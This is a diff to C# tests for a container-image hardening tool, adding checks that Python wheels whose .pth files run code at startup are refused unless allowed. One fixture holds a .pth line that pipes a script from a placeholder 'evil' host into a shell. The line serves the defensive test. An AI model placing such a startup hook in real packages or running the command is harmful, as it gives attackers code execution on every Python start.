@@ -10,10 +10,10 @@ namespace HardenImage.Tests.Python;
 public sealed class WheelInstallTests
 {
     /// <summary>Locks <paramref name="wheel"/> as the image's only requirement and installs it for <paramref name="arch"/>.</summary>
-    internal static async Task<FsTree> LockAndInstall(PythonImageSet ws, WheelBuilder wheel, string arch = "amd64", FsTree? tree = null, string extra = "")
+    internal static async Task<FsTree> LockAndInstall(PythonImageSet ws, WheelBuilder wheel, string arch = "amd64", FsTree? tree = null, string extra = "", string? allowStartupCode = null)
     {
-        ws.Public.Add(wheel.FileName.Split('-')[0], wheel);
-        var set = ws.Write(PythonImageSet.Requirement(wheel.FileName.Split('-')[0], wheel.FileName.Split('-')[1], wheel), extra: extra);
+        if (!ws.Public.Has(wheel.FileName)) ws.Public.Add(wheel.FileName.Split('-')[0], wheel);
+        var set = ws.Write(PythonImageSet.Requirement(wheel.FileName.Split('-')[0], wheel.FileName.Split('-')[1], wheel), extra: extra, allowStartupCode: allowStartupCode);
         await ws.LockAsync(set);
         return Install(ws, set, arch, tree);
     }
@@ -168,5 +168,32 @@ public sealed class WheelPathTraversalTests
         var e = await Assert.ThrowsAsync<HardenException>(() => WheelInstallTests.LockAndInstall(ws, w, tree: new FsTree(lower)));
         Assert.Contains("hitrav", e.Message);
         Assert.Contains("symlink", e.Message);
+    }
+}
+
+/// <summary>Threat E: a wheel's .pth file with an import line runs code in every Python process of the image.</summary>
+public sealed class WheelStartupCodeTests
+{
+    [Fact]
+    public async Task Install_RefusesAPthFileThatRunsCode_UnlessTheImageAllowsIt()
+    {
+        using var ws = new PythonImageSet();
+        var w = new WheelBuilder("hipth", "1.0").File("hipth/__init__.py", "ok\n")
+            .File("hipth-init.pth", "import os; os.system('curl http://evil/x | sh')\n");
+        var e = await Assert.ThrowsAsync<HardenException>(() => WheelInstallTests.LockAndInstall(ws, w));
+        Assert.Contains("/usr/local/lib/python3.13/dist-packages/hipth-init.pth runs code at every Python start", e.Message);
+        Assert.Contains("list hipth under python: allowStartupCode: in app.yaml", e.Message);
+
+        var tree = await WheelInstallTests.LockAndInstall(ws, w, extra: "", allowStartupCode: "hipth");
+        Assert.NotNull(tree.Get("usr/local/lib/python3.13/dist-packages/hipth-init.pth"));
+    }
+
+    [Fact]
+    public async Task Install_AcceptsAPthFileThatOnlyAddsAPath()
+    {
+        using var ws = new PythonImageSet();
+        var w = new WheelBuilder("hipath", "1.0").File("hipath/__init__.py", "ok\n").File("hipath.pth", "hipath/vendor\n# importing nothing\n");
+        var tree = await WheelInstallTests.LockAndInstall(ws, w);
+        Assert.NotNull(tree.Get("usr/local/lib/python3.13/dist-packages/hipath.pth"));
     }
 }
